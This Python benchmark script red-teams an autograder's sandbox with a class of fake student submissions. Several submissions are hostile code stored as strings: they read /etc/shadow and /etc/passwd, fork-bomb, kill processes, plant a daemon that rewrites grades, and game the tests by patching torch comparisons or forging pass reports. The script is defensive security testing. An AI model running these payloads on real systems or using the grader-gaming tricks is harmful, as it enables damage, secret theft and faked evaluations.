"""A red team of `qkv learn grade`: a class of hostile, honest-right and honest-wrong students,
graded as a course would grade them, and what each attempt got.

Every student hands in ``softmax.py`` (and some ``causal_mask.py``); the cheats solve nothing and
try to score anyway, or to damage, read or outlive the grader. The class is graded by the real
command in a fresh process (`qkv learn grade SUBS --grader G -o OUT --timeout 10 --jobs 2`), then:

- per attempt: the points it got on the exercise it cheats at (a cheat is blocked when it gets 0;
  an honest student, or hostile code before a correct softmax, when it gets exactly what the work
  deserves), and what it left (a marker file
  it wrote outside its folder, a connection it opened to a listener of ours, a secret it read and
  showed in grades.json);
- the grading's wall time with ``--timeout 10`` (goal: bounded by the timeouts);
- processes left after grading: every process started during the run and alive 3 s after it
  (goal: none);
- files written outside the output folder: the grader's folder, the submissions and a watched
  folder, before and after (goal: none), and grades.csv unchanged 3 s after the grader exited.

    python benchmarks/learn_redteam.py                          # ~2 minutes on 2 cores
    python benchmarks/learn_redteam.py --json benchmarks/results/learn_redteam.json

Run it as root to see the unprivileged-user path (a user per job, folders hidden, no network)
and as a normal user for the same-user path; the JSON records which, and the grade output's own
notes on what could not be isolated.
"""

# ruff: noqa: E501  (the students' programs below are data, kept one line per line they hold)
from __future__ import annotations

import argparse
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _common import machine_info

RIGHT = '''import torch


def softmax(x, dim=-1):
    z = x - x.amax(dim=dim, keepdim=True)
    e = torch.exp(z)
    return e / e.sum(dim=dim, keepdim=True)
'''
WRONG = '''import torch


def softmax(x, dim=-1):
    return x.exp() / x.exp().sum(dim=dim, keepdim=True)   # no max subtracted: overflows
'''
WRONG_BODY = "    return x.exp() / x.exp().sum(dim=dim, keepdim=True)\n"
RIGHT_BODY = RIGHT.split("):\n", 1)[1]


def cheat(prelude: str, body: str = WRONG_BODY) -> str:
    return f"import torch\n{prelude}\n\ndef softmax(x, dim=-1):\n{body}"


# name -> (what it tries, files {name: text}, the points it should get on softmax). A cheat solves
# nothing and must get 0; hostile code (damage, escape, outlive) comes before a correct softmax, so
# its grade must stay exact while what it tried is measured apart (markers, connections, processes).
ATTEMPTS: dict[str, tuple[str, dict[str, str], str]] = {
    "honest-right": ("a correct softmax", {"softmax.py": RIGHT}, "full"),
    "honest-wrong": ("softmax without the max subtracted (overflows on large logits)", {"softmax.py": WRONG},
                     "zero"),
    "import-qkv": ("qkv's own softmax", {"softmax.py": cheat(
        "from qkv.attention.functional import softmax as _s", "    return _s(x, dim)\n")}, "zero"),
    "import-qkv-dynamic": ("qkv imported by a computed name", {"softmax.py": cheat(
        "", "    m = __import__('q' + 'kv.attention.functional', fromlist=['softmax'])\n"
            "    return m.softmax(x, dim)\n")}, "zero"),
    "exec-reference": ("exec of the exercise's reference solution read from qkv's files", {"softmax.py": cheat(
        "import glob, site\n"
        "SRC = ''\n"
        "for d in site.getsitepackages() + [p for p in __import__('sys').path]:\n"
        "    for f in glob.glob(d + '/qkv/learn/catalog.py') + glob.glob(d + '/../qkv/learn/catalog.py'):\n"
        "        SRC = open(f).read()\n",
        "    start = SRC.index('def softmax(x, dim=-1):\\n    z =')\n"
        "    ns = {'torch': torch}\n"
        "    exec(SRC[start:SRC.index('\"\"\"', start)], ns)\n"
        "    return ns['softmax'](x, dim)\n")}, "zero"),
    "patch-allclose": ("torch.allclose / isclose / equal patched to say yes, wrong values returned",
                       {"softmax.py": cheat(
                           "torch.allclose = lambda *a, **k: True\ntorch.isclose = lambda a, b, **k: "
                           "torch.ones_like(a, dtype=torch.bool)\ntorch.equal = lambda *a: True",
                           "    return torch.zeros_like(x)\n")}, "zero"),
    "forge-report": ("a passing report written to every descriptor and file it can find, then os._exit(0)",
                     {"softmax.py": cheat(
                         "import os, json",
                         "    rep = json.dumps({'passed': True, 'checks': [{'name': 'x', 'ok': True, 'message': ''}]})\n"
                         "    for fd in range(1, 12):\n"
                         "        try:\n"
                         "            os.write(fd, rep.encode())\n"
                         "        except OSError:\n"
                         "            pass\n"
                         "    for p in ('report.json', '../report.json', '/tmp/report.json'):\n"
                         "        try:\n"
                         "            open(p, 'w').write(rep)\n"
                         "        except OSError:\n"
                         "            pass\n"
                         "    os._exit(0)\n")}, "zero"),
    "shadow-package": ("a qkv package beside the file, its judge and checks saying all passed",
                       {"softmax.py": cheat("import qkv.learn.judge  # noqa", "    return x\n"),
                        "qkv/__init__.py": "", "qkv/learn/__init__.py": "",
                        "qkv/learn/judge.py": "PASSED = True\n", "qkv/learn/sandbox.py": "PASSED = True\n"},
                       "zero"),
    "class-body": ("a class whose body patches torch at import (a notebook's trick)", {"softmax.py": cheat(
        "class Sneaky:\n    torch.testing.assert_close = staticmethod(lambda *a, **k: None)\n"
        "    torch.allclose = staticmethod(lambda *a, **k: True)\n", "    return x * 0\n")}, "zero"),
    "daemon": ("a double-forked daemon that rewrites grades.csv after the grader exits", {"softmax.py": cheat(
        "import os, time\n"
        "def _daemon():\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            os.setsid()\n"
        "            if os.fork() == 0:\n"
        "                time.sleep(2)\n"
        "                for root, _, files in os.walk('/tmp'):\n"
        "                    for f in files:\n"
        "                        if f == 'grades.csv':\n"
        "                            open(os.path.join(root, f), 'w').write('student,softmax,total\\nevil,99,99\\n')\n"
        "                os._exit(0)\n"
        "            os._exit(0)\n"
        "    except OSError:\n"
        "        pass\n"
        "_daemon()\n", RIGHT_BODY)}, "full"),
    "classmate": ("exec of a classmate's file (honest-right's)", {"softmax.py": cheat(
        "import os\nSRC = ''\n"
        "for base in ('..', '../..', '../../..', os.environ.get('HOME', '.')):\n"
        "    p = os.path.join(base, 'honest-right', 'softmax.py')\n"
        "    try:\n"
        "        SRC = open(p).read()\n"
        "    except OSError:\n"
        "        pass\n",
        "    ns = {}\n    exec(SRC, ns)\n    return ns['softmax'](x, dim)\n")}, "zero"),
    "grandchild": ("a grandchild holding stderr open, then an infinite loop", {"softmax.py": cheat(
        "import subprocess, sys\n"
        "try:\n"
        "    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)'])\n"
        "except Exception:\n"
        "    pass\n", "    while True:\n        pass\n")}, "zero"),
    "write-outside": ("writes into the grader's folder, the submissions and /tmp", {"softmax.py": cheat(
        "import os, glob\n"
        "for pattern in ('../*', '../../*', '/tmp/*', os.environ.get('HOME', '') + '/*'):\n"
        "    for d in glob.glob(pattern):\n"
        "        try:\n"
        "            open(os.path.join(d, 'PWNED-write-outside'), 'w').write('x')\n"
        "        except OSError:\n"
        "            pass\n", RIGHT_BODY)}, "full"),
    "read-secrets": ("/etc/shadow and the grader's manifest read into its exception text", {"softmax.py": cheat(
        "import glob\n"
        "def _secret():\n"
        "    out = []\n"
        "    for p in ['/etc/shadow'] + glob.glob('/tmp/*/*/manifest.json') + glob.glob('/tmp/*/secret.txt'):\n"
        "        try:\n"
        "            out.append(open(p).read()[:200])\n"
        "        except OSError as e:\n"
        "            out.append(f'{p}: {e}')\n"
        "    return ' | '.join(out)\n",
        "    raise ValueError(_secret())\n")}, "zero"),
    "socket": ("a TCP connection to a listener of the benchmark", {"softmax.py": cheat(
        "import socket\n"
        "def _call_home():\n"
        "    try:\n"
        "        socket.create_connection(('127.0.0.1', PORT), timeout=2).sendall(b'softmax leaked')\n"
        "    except OSError:\n"
        "        pass\n", "    _call_home()\n" + RIGHT_BODY)}, "full"),
    "getattr-softmax": ("torch's softmax reached by a computed name", {"softmax.py": cheat(
        "", "    return getattr(torch, 'soft' + 'max')(x, dim)\n")}, "zero"),
    "print-storm": ("prints without end (a correct softmax after them)", {"softmax.py": cheat(
        "", "    for i in range(10**8):\n        print('debug', i)\n" + RIGHT.split('):\n', 1)[1])}, "zero"),
    "memory-bomb": ("allocates 64 GiB", {"softmax.py": cheat(
        "", "    big = torch.empty(2**33, dtype=torch.float64)\n    return big[:1]\n")}, "zero"),
    "fork-bomb": ("forks until it cannot", {"softmax.py": cheat(
        "import os\n"
        "def _bomb():\n"
        "    for _ in range(200):\n"
        "        try:\n"
        "            if os.fork() == 0:\n"
        "                import time\n"
        "                time.sleep(60)\n"
        "                os._exit(0)\n"
        "        except OSError:\n"
        "            return\n"
        "_bomb()\n", RIGHT_BODY)}, "full"),
    "kill-grader": ("signals its parent and every process it can", {"softmax.py": cheat(
        "import os, signal\n"
        "for pid in [os.getppid()] + list(range(2, 400)):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except (OSError, PermissionError):\n"
        "        pass\n", RIGHT_BODY)}, "full"),
    "ctypes-system": ("libc's system() through ctypes (refused: native code reaches past every check)", {"softmax.py": cheat(
        "import ctypes\n"
        "try:\n"
        "    ctypes.CDLL(None).system(b'touch /tmp/PWNED-ctypes')\n"
        "except Exception:\n"
        "    pass\n", RIGHT_BODY)}, "zero"),
    "from-file": ("/etc/passwd read by torch.from_file (C++, outside Python's audit) into its exception text",
                  {"softmax.py": cheat(
                      "def _read():\n"
                      "    try:\n"
                      "        return bytes(torch.from_file('/etc/passwd', size=64, dtype=torch.uint8).tolist()).decode()\n"
                      "    except Exception as e:\n"
                      "        return str(e)\n", "    raise ValueError(_read())\n")}, "zero"),
    "native-write": ("torch.save (a C++ writer, unseen by Python's audit) into /tmp and the folders above",
                     {"softmax.py": cheat(
                         "import os\n"
                         "for d in ('/tmp', '..', '../..', os.environ.get('HOME', '.')):\n"
                         "    try:\n"
                         "        torch.save(torch.zeros(1), os.path.join(d, 'PWNED-native-write'))\n"
                         "    except Exception:\n"
                         "        pass\n", RIGHT_BODY)}, "full"),
    "native-socket": ("a TCP connection from C++ (torch.distributed's TCPStore) to a listener of the benchmark",
                      {"softmax.py": cheat(
                          "import datetime\n"
                          "try:\n"
                          "    import torch.distributed as dist\n"
                          "    dist.TCPStore('127.0.0.1', PORT, is_master=False, timeout=datetime.timedelta(seconds=2))\n"
                          "except Exception:\n"
                          "    pass\n", RIGHT_BODY)}, "full"),
    "stub": ("the untouched stub", {"softmax.py": cheat(
        "", '    """docs"""\n    raise NotImplementedError("write softmax")\n')}, "zero"),
}


def snapshot(folders: list[Path]) -> dict[str, tuple[int, int]]:
    out = {}
    for folder in folders:
        for p in folder.rglob("*"):
            try:
                st = p.lstat()
            except OSError:
                continue
            out[str(p)] = (st.st_mtime_ns, st.st_size)
    return out


def pids() -> set[int]:
    return {int(p) for p in os.listdir("/proc") if p.isdigit()}


def listener() -> tuple[int, list[bytes]]:
    got: list[bytes] = []
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)

    def serve() -> None:
        while True:
            try:
                conn, _ = srv.accept()
                got.append(conn.recv(100))
                conn.close()
            except OSError:
                return

    threading.Thread(target=serve, daemon=True).start()
    return srv.getsockname()[1], got


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--timeout", type=float, default=10.0)
    ap.add_argument("--jobs", type=int, default=2)
    ap.add_argument("--json", default=None)
    args = ap.parse_args()
    root = Path(tempfile.mkdtemp(prefix="qkv-redteam-"))
    os.chmod(root, 0o755)
    secret = root / "secret.txt"
    secret.write_text("SECRET-CANARY-7f3a")
    os.chmod(secret, 0o644)
    port, received = listener()
    course, subs, out = root / "course", root / "subs", root / "out"
    r = subprocess.run([sys.executable, "-m", "qkv", "learn", "export", "--course", str(course),
                        "--exercises", "softmax"], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    for name, (_, files, _) in ATTEMPTS.items():
        for rel, text in files.items():
            p = subs / name / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text(text.replace("PORT", str(port)))
    watched = [course, subs, root / "watched"]
    (root / "watched").mkdir()
    before_files, before_pids = snapshot(watched), pids()
    t0 = time.perf_counter()
    r = subprocess.run([sys.executable, "-m", "qkv", "learn", "grade", str(subs), "--grader", str(course / "grader"),
                        "-o", str(out), "--timeout", str(args.timeout), "--jobs", str(args.jobs), "--no-progress"],
                       capture_output=True, text=True)
    wall = time.perf_counter() - t0
    csv_after = (out / "grades.csv").read_bytes() if (out / "grades.csv").is_file() else b""
    time.sleep(3)
    left = []
    for pid in pids() - before_pids:
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if cmd.strip():
            left.append(f"{pid}: {cmd[:120]}")
    csv_later = (out / "grades.csv").read_bytes() if (out / "grades.csv").is_file() else b""
    after_files = snapshot(watched)
    written = sorted(set(after_files) - set(before_files)) + sorted(
        p for p in before_files if p in after_files and after_files[p] != before_files[p])
    pwned = sorted(str(p) for p in Path("/tmp").rglob("PWNED*"))
    grades = json.loads((out / "grades.json").read_text()) if (out / "grades.json").is_file() else {}
    by_student = {s["student"]: s for s in grades.get("students", [])}
    text = json.dumps(grades)
    rows = []
    for name, (what, _, expect) in ATTEMPTS.items():
        g = by_student.get(name, {}).get("exercises", {}).get("softmax", {})
        score, top = g.get("score"), g.get("max_score")
        ok = (score == top) if expect == "full" else (score == 0)
        rows.append({"attempt": name, "tries": what, "score": score, "max": top,
                     "blocked" if expect == "zero" else "exact": bool(ok),
                     "reason": (g.get("reason") or "")[:160], "similar": g.get("similar")})
    result = {
        "machine": machine_info(), "as_root": os.geteuid() == 0, "command_rc": r.returncode,
        "stderr_tail": r.stderr[-800:], "wall_s": round(wall, 1), "timeout_s": args.timeout, "jobs": args.jobs,
        "attempts": rows, "processes_left": left, "files_written_outside_output": written,
        "pwned_markers": pwned, "connections_received": [b.decode(errors="replace") for b in received],
        "secret_in_grades": "SECRET-CANARY" in text or "root:" in text,
        "grades_csv_changed_after_exit": csv_after != csv_later,
        "grades_csv_sha256": hashlib.sha256(csv_later).hexdigest()[:16],
    }
    print(f"{'attempt':20s} {'score':>7s}  verdict   reason")
    for row in rows:
        verdict = ("blocked" if row.get("blocked") else "SCORED") if "blocked" in row else (
            "exact" if row["exact"] else "WRONG")
        print(f"{row['attempt']:20s} {row['score']!s:>4}/{row['max']!s:<2}  {verdict:8s}  {row['reason'][:90]}")
    print(f"\ngrading wall time {wall:.1f} s (--timeout {args.timeout:g}, --jobs {args.jobs}, "
          f"{len(ATTEMPTS)} students); as root: {result['as_root']}")
    print(f"processes left: {len(left)}; files written outside the output: {len(written)}; "
          f"markers: {len(pwned)}; connections: {len(received)}; secret in grades: {result['secret_in_grades']}; "
          f"grades.csv changed after exit: {result['grades_csv_changed_after_exit']}")
    for line in left + written + pwned:
        print("  ", line)
    if args.json:
        Path(args.json).write_text(json.dumps(result, indent=1) + "\n")
    shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    main()
